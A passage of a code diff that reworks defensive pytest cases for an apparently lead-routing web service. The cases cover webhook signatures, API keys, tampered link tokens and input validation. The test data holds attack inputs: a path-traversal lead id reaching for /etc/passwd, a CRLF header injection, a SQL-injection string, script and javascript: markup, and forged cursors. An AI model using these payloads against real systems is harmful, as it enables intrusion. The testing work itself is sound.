+            lambda data: hubspot_signed(data, uri="https://evil.example/webhooks/hubspot"),
             "does not match",
         ),
         (
             "unknown-version",
             {"X-HubSpot-Signature": "x", "X-HubSpot-Signature-Version": "v9"},
-            "is not v1, v2 or v3",
+            "not v1, v2 or v3",
         ),
     ]:
         yield hubspot(f"auth-hubspot-{name}", contact, says, status=401, headers=headers)
@@ -819,41 +613,33 @@ def bad_auth() -> Iterator[ParameterSet]:
         ("no-token", "/webhooks/salesforce"),
         ("wrong-token", "/webhooks/salesforce?token=wrong"),
         ("empty-token", "/webhooks/salesforce?token="),
-        ("token-prefix", f"/webhooks/salesforce?token={SF_TOKEN[:-1]}"),
     ]:
         yield salesforce(f"auth-salesforce-{name}", outbound(), "token", status=401, path=path)
-    yield salesforce(
-        "auth-salesforce-org-not-allowed",
-        outbound("00D5g000004ABCDEAZ", "00D000000000000AAA"),
-        "not on the allowlist",
-        status=401,
-    )
-    keys: list[tuple[str, dict[str, str]]] = [
-        ("missing", {}),
-        ("wrong", {"x-api-key": "wrong"}),
-        ("empty", {"x-api-key": ""}),
-        ("prefix", {"x-api-key": API_KEY[:-1]}),
-        ("as-bearer", {"Authorization": f"Bearer {API_KEY}"}),
-        ("crlf", {"x-api-key": API_KEY + "\r\nX-Admin: true"}),
-    ]
-    for name, headers in keys:
+    other_org = outbound("00D5g000004ABCDEAZ", "00D000000000000AAA")
+    yield salesforce("auth-salesforce-org-not-allowed", other_org, "not on the allowlist", status=401)
+    keys = {
+        "missing": {},
+        "wrong": {"x-api-key": "wrong"},
+        "as-bearer": {"Authorization": f"Bearer {API_KEY}"},
+        "crlf": {"x-api-key": API_KEY + "\r\nX-Admin: true"},
+    }
+    for name, headers in keys.items():
         yield param(f"auth-reps-{name}", Case("GET", "/reps", headers=headers, status=401, says="x-api-key"))
-    for name, headers in keys[:4]:
-        yield param(
-            f"auth-get-lead-{name}",
-            Case("GET", "/leads/{lead}", headers=headers, status=401, says="x-api-key"),
-        )
-    for name, headers in keys[:3]:
-        yield dispose(
-            f"auth-disposition-{name}",
-            {"outcome": "connected"},
-            "x-api-key",
-            status=401,
-            headers={"Content-Type": "application/json"} | headers,
-        )
     yield param(
         "auth-reps-key-in-query", Case("GET", f"/reps?x-api-key={API_KEY}", status=401, says="x-api-key")
     )
+    for name in ("missing", "wrong"):
+        case = Case("GET", "/leads/{lead}", headers=keys[name], status=401, says="x-api-key")
+        yield param(f"auth-get-lead-{name}", case)
+    for name in ("missing", "wrong", "as-bearer"):
+        headers = {"Content-Type": "application/json"} | keys[name]
+        yield dispose(
+            f"auth-disposition-{name}", {"outcome": "connected"}, "x-api-key", status=401, headers=headers
+        )
+
+
+def _flip_last(token: str) -> str:
+    return token[:-1] + ("B" if token.endswith("A") else "A")
 
 
 def _swap_outcome(token: str) -> str:
@@ -865,63 +651,42 @@ def _swap_outcome(token: str) -> str:
 
 
 LINK_TOKENS: list[tuple[str, Callable[[Ctx], str], int, str]] = [
-    ("tampered-signature", lambda ctx: ctx.token()[:-4] + "AAAA", 403, "altered"),
+    ("tampered-signature", lambda ctx: _flip_last(ctx.token()), 403, "altered"),
     ("tampered-claims", lambda ctx: _swap_outcome(ctx.token()), 403, "altered"),
-    ("signed-with-another-key", lambda ctx: ctx.token(key="not-the-link-key"), 403, "altered"),
     ("truncated", lambda ctx: ctx.token()[:40], 410, "incomplete or damaged"),
+    ("random", lambda ctx: "Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0", 410, "incomplete or damaged"),
+    ("empty-parts", lambda ctx: "v1..", 403, "altered"),
     ("expired", lambda ctx: ctx.token(now=utcnow() - timedelta(days=8)), 410, "expired"),
     ("another-reps", lambda ctx: ctx.token(rep_id="r2"), 410, "moved to another rep"),
     ("unknown-lead", lambda ctx: ctx.token(lead_id="ld_000000000000000000000000"), 410, "no longer exists"),
-    ("random", lambda ctx: "Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0", 410, "incomplete or damaged"),
-    ("empty-parts", lambda ctx: "v1..", 403, "altered"),
-    ("wrong-version", lambda ctx: "v2" + ctx.token()[2:], 410, "incomplete or damaged"),
-    ("2000-chars", lambda ctx: "v1." + "A" * 2000 + ".sig", 410, "incomplete or damaged"),
-    ("percent-encoded-junk", lambda ctx: "v1.%FF%00.%3Cscript%3E", 403, "altered"),
 ]
+
+
+GET_TOO = {"tampered-signature", "truncated", "random", "empty-parts", "expired"}
 
 
 def link_tokens() -> Iterator[ParameterSet]:
     """One-click disposition links that must not work, on GET (confirm) and POST (record)."""
-    for method in ("GET", "POST"):
-        for name, token, status, says in LINK_TOKENS:
-            yield link(f"link-{method.lower()}-{name}", method, token, status, says)
-    yield link(
-        "link-post-reason-not-listed",
-        "POST",
-        lambda ctx: ctx.token("disqualify"),
-        400,
-        "Pick one",
-        body=b"reason=bored",
-    )
-    yield link(
-        "link-post-reason-markup",
-        "POST",
-        lambda ctx: ctx.token("disqualify"),
-        400,
-        "Pick one",
-        body=b"reason=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
-    )
-    yield link(
-        "link-post-6-form-fields",
-        "POST",
-        lambda ctx: ctx.token(),
-        400,
-        "",
-        body=b"a=1&b=2&c=3&d=4&e=5&note=6",
-        bug="POST /d/{token} with more than 5 form fields crashes (ValueError 'Max number of fields "
-        "exceeded' from parse_qs(max_num_fields=5)) instead of a 400 page",
-    )
+    for name, token, status, says in LINK_TOKENS:
+        yield link(f"link-post-{name}", "POST", token, status, says)
+        if name in GET_TOO:  # the rest share the POST's checks
+            yield link(f"link-get-{name}", "GET", token, status, says)
+
+    def disqualify(ctx: Ctx) -> str:
+        return ctx.token("disqualify")
+
+    yield link("link-post-reason-not-listed", "POST", disqualify, 400, "Pick one", body=b"reason=bored")
+    markup = b"reason=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
+    yield link("link-post-reason-markup", "POST", disqualify, 400, "Pick one", body=markup)
+    body = b"a=1&b=2&c=3&d=4&e=5&note=6"
+    yield link("link-post-6-form-fields", "POST", Ctx.token, 400, "fields", body=body)
 
 
 def disposition_api() -> Iterator[ParameterSet]:
     """Outcomes, reasons and notes the API must refuse, and lead ids that name nothing."""
     for name, body, says in [
         ("unknown-outcome", {"outcome": "won"}, "outcome must be one of"),
-        ("outcome-wrong-case", {"outcome": "Connected"}, "outcome must be one of"),
-        ("outcome-with-nul", {"outcome": "connected\x00"}, "outcome must be one of"),
         ("outcome-empty", {"outcome": ""}, "outcome"),
-        ("outcome-65-chars", {"outcome": "c" * 65}, "outcome"),
-        ("outcome-number", {"outcome": 5}, "outcome"),
         ("outcome-missing", {"note": "called"}, "outcome"),
         (
             "unknown-reason",
@@ -931,65 +696,64 @@ def disposition_api() -> Iterator[ParameterSet]:
         ("reason-missing", {"outcome": "recycle"}, "reason for recycle must be one of"),
         ("reason-markup", {"outcome": "recycle", "reason": SCRIPT}, "reason"),
         ("note-2001-chars", {"outcome": "connected", "note": "n" * 2001}, "note"),
-        ("by-257-chars", {"outcome": "connected", "by": "b" * 257}, "by"),
-        ("rep-id-65-chars", {"outcome": "connected", "rep_id": "r" * 65}, "rep_id"),
         ("mass-assignment-status", {"outcome": "connected", "status": "closed"}, "status"),
     ]:
         yield dispose(f"disposition-{name}", body, says)
-    ok = {"outcome": "connected"}
-    for name, lead_id in [
-        ("unknown-lead", "ld_000000000000000000000000"),
-        ("path-traversal", "..%2F..%2Fetc%2Fpasswd"),
-        ("dot-dot", ".."),
-        ("5000-chars", "x" * 5000),
-        ("unicode", "ld_\u2603\u202e"),
-        ("nul", "ld_%00"),
-        ("injection", "ld_x' OR '1'='1"),
-    ]:
-        yield dispose(
-            f"disposition-lead-id-{name}",
-            ok,
-            ("not found", "no such route"),
-            status=404,
-            path=f"/leads/{lead_id}/disposition",
-        )
+    missing = ("not found", "no such route")
     for name, lead_id in [
         ("unknown", "ld_000000000000000000000000"),
         ("path-traversal", "..%2F..%2Fetc%2Fpasswd"),
         ("5000-chars", "x" * 5000),
-        ("unicode", "ld_\u2603"),
+        ("unicode", "ld_\u2603\u202e"),
     ]:
-        yield param(
-            f"get-lead-id-{name}",
-            Case(
-                "GET",
-                f"/leads/{lead_id}",
-                headers=with_key(),
-                status=404,
-                says=("not found", "no such route"),
-            ),
-        )
+        path = f"/leads/{lead_id}/disposition"
+        yield dispose(f"disposition-lead-id-{name}", {"outcome": "connected"}, missing, status=404, path=path)
+    for name, lead_id in [("path-traversal", "..%2F..%2Fetc%2Fpasswd"), ("unicode", "ld_\u2603")]:
+        case = Case("GET", f"/leads/{lead_id}", headers=with_key(), status=404, says=missing)
+        yield param(f"get-lead-id-{name}", case)
+
+
+def lead_listing() -> Iterator[ParameterSet]:
+    """GET /leads: the key, and the status, limit and cursor query parameters."""
+
+    def cursor(data: Any) -> str:
+        return base64.urlsafe_b64encode(json.dumps(data).encode()).decode()
+
+    forged = cursor({"lead_id": "ld_x", "open_status": "routing", "updated_at": "2026"})
+    for name, query, says in [
+        ("status-unknown", "status=bogus", "status: must be one of"),
+        ("status-with-nul", "status=failed%00", "status: must be one of"),
+        ("limit-zero", "limit=0", "limit: a whole number"),
+        ("limit-101", "limit=101", "limit: a whole number"),
+        ("limit-text", "limit=lots", "limit: a whole number"),
+        ("next-not-base64", "next=%21%21%21", "next: not a cursor"),
+        ("next-array", f"next={cursor([1])}", "next: not a cursor"),
+        ("next-extra-keys", f"next={cursor({'lead_id': 'x', 'Limit': 1e9})}", "next: not a cursor"),
+        ("next-for-another-status", f"status=failed&next={forged}", "next: not a cursor"),
+    ]:
+        yield param(f"list-leads-{name}", Case("GET", f"/leads?{query}", headers=with_key(), says=says))
+    for name, headers in [("missing", {}), ("wrong", {"x-api-key": "wrong"})]:
+        case = Case("GET", "/leads?status=failed", headers=headers, status=401, says="x-api-key")
+        yield param(f"auth-list-leads-{name}", case)
 
 
 def unrouted() -> Iterator[ParameterSet]:
-    """Methods and paths no route serves, should they reach a function."""
+    """Methods no route serves, should they reach a function: a JSON 404, not a crash."""
     for function, method, path in [
         (QUALIFY, "POST", "/health"),
+        (QUALIFY, "POST", "/openapi.json"),
         (QUALIFY, "DELETE", "/leads/{lead}"),
-        (QUALIFY, "PUT", "/reps"),
-        (QUALIFY, "GET", "/webhooks/generic"),
         (DISPOSITION, "GET", "/leads/{lead}/disposition"),
         (DISPOSITION, "DELETE", "/d/x"),
     ]:
         case_id = f"route-{method.lower()}-{path.strip('/').replace('/', '-').replace('{lead}', 'lead')}"
-        yield param(
-            case_id, Case(method, path, status=(404, 405), says=("no such route", "not"), function=function)
-        )
+        case = Case(method, path, status=(404, 405), says=("no such route", "not"), function=function)
+        yield param(case_id, case)
 
 
 CORPUS = [
     *json_syntax(),
-    *non_finite_and_huge_numbers(),
+    *numbers(),
     *wrong_types(),
     *sizes(),
     *xml_attacks(),
@@ -998,6 +762,7 @@ CORPUS = [
     *bad_auth(),
     *link_tokens(),
     *disposition_api(),
+    *lead_listing(),
     *unrouted(),
 ]
 
@@ -1044,14 +809,9 @@ MARKUP_TEXT_FIELDS = (
     "contact.last_name",
     "contact.title",
     "contact.department",
-    "contact.seniority",
-    "contact.phone",
     "company.name",
-    "company.industry",
-    "crm.record_id",
     "trigger.name",
     "activities.0.title",
-    "activities.1.title",
     "source",
     "contact.notes",  # an unknown field, kept as an extra
 )
@@ -1059,7 +819,7 @@ MARKUP = [
     *(pytest.param(d, SCRIPT, id=f"markup-script-{d}") for d in MARKUP_TEXT_FIELDS),
     *(
         pytest.param(d, JS_URL, id=f"markup-js-url-{d}")
-        for d in ("trigger.url", "activities.0.url", "crm.record_url", "company.domain", "contact.first_name")
+        for d in ("trigger.url", "activities.0.url", "crm.record_url")
     ),
     pytest.param("trigger.url", "JaVaScRiPt:alert(1)", id="markup-js-url-mixed-case-trigger.url"),
     pytest.param(
